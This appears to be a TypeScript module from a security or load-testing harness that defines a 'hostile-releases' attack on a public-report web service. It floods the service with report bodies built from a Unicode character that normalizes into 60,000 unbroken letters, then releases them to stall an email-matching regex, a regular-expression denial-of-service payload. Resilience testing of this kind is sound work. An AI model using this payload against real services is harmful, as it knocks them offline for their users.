import { setTimeout as wait } from "node:timers/promises";
import { type Attack, attackerAddress, scaled } from "./attack.ts";
import { expectStatus, honestReport, type Receipt, send, submitReport } from "./requests.ts";

/**
 * A character that Unicode's compatibility normalization expands to six letters. The result has 60,000
 * letters and no space.
 */
const hostileText = "㌖".repeat(10_000);
const releases = 5;

/** Releases reports whose text takes very long to match against a bad email pattern. */
export const hostileReleases: Attack = {
  name: "hostile-releases",
  async prepare(order) {
    const citizen = { url: order.url, key: order.siteKey, address: attackerAddress(order, 0) };
    const trackingIds: string[] = [];
    for (let count = 0; count < scaled(order, releases); count++) {
      const submitted = await submitReport(citizen, { ...honestReport, body: hostileText });
      trackingIds.push((expectStatus(submitted, 201, "submit") as unknown as Receipt).trackingId);
    }
    return async () => {
      const began = performance.now();
      const pause = (order.seconds * 1000) / trackingIds.length;
      const officer = { ...citizen, key: order.agencyKey };
      const statuses: Record<string, number> = {};
      for (const [index, trackingId] of trackingIds.entries()) {
        await wait(Math.max(0, began + index * pause - performance.now()));
        const { status } = await send(officer, "POST", `/v1/agency-reports/${trackingId}/release`, {
          headers: { "content-type": "application/json", "if-match": '"1"' },
          body: "{}",
        });
        statuses[status] = (statuses[status] ?? 0) + 1;
      }
      return { statuses, connections: 1, closedByServer: 0 };
    };
  },
};
